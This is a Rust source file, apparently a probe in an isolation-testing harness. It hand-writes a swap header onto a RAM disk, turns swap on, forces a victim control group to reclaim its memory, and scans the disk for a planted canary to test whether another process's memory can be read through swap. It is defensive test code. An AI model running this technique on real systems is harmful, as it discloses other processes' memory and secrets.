//! Swap of the attacker's own: what others hold in memory is written to it, and read there.

use std::ffi::{CStr, OsStr};
use std::fs::{self, File};
use std::io::{self, Read as _};
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::FileExt as _;
use std::path::Path;

use crate::call;
use crate::told::{Found, absent, nothing, told};
use crate::{Probe, Stage};

pub(crate) const PROBES: &[Probe] = &[Probe::new(
    "swap/reclaim",
    "swap-on",
    "turn on swap, have the kernel move the victim's pages out to it, and read them there",
    |stage| told(moved_out(stage)),
)
.invasive()];

/// A disk in memory, of the module `brd`.
const DISK: &CStr = c"/dev/ram0";
/// Its first page says what it is, its others are used.
const PAGE: u64 = 4096;

fn moved_out(stage: &Stage) -> Found {
    let group = stage.group.as_ref().ok_or_else(|| absent("the victim has no control group of its own"))?;
    let reclaim = group.path().join("memory.reclaim");
    if !disk().exists() || !reclaim.exists() {
        return Err(absent(format!("there is no {}, or no {}", disk().display(), reclaim.display())));
    }
    prepare()?;
    call!(libc::SYS_swapon, DISK, 0)?;
    // Moving out as much as is asked for does not succeed; what there is has gone.
    let asked = fs::write(reclaim, "64M");
    let found = read();
    call!(libc::SYS_swapoff, DISK)?;
    let canary = &stage.victim.held().memory.canary;
    if found?.windows(canary.len()).any(|bytes| bytes == canary.as_bytes()) {
        return Ok("the canary of its memory".into());
    }
    Err(nothing(format!("the victim's page is not there; reclaiming: {asked:?}")))
}

/// What mkswap(8) writes: a version, the number of the last page, and the name at the first page's end.
fn prepare() -> io::Result<()> {
    let disk = File::options().write(true).open(disk())?;
    let last = u32::try_from((size()? / PAGE).saturating_sub(1)).map_err(io::Error::other)?;
    disk.write_all_at(&1_u32.to_ne_bytes(), 1024)?;
    disk.write_all_at(&last.to_ne_bytes(), 1028)?;
    disk.write_all_at(b"SWAPSPACE2", 4086)?;
    disk.sync_all()
}

fn disk() -> &'static Path {
    Path::new(OsStr::from_bytes(DISK.to_bytes()))
}

fn size() -> io::Result<u64> {
    let sectors = fs::read_to_string("/sys/block/ram0/size")?;
    sectors.trim().parse::<u64>().map(|sectors| sectors.saturating_mul(512)).map_err(io::Error::other)
}

fn read() -> io::Result<Vec<u8>> {
    let mut all = Vec::new();
    File::open(disk())?.read_to_end(&mut all)?;
    Ok(all)
}
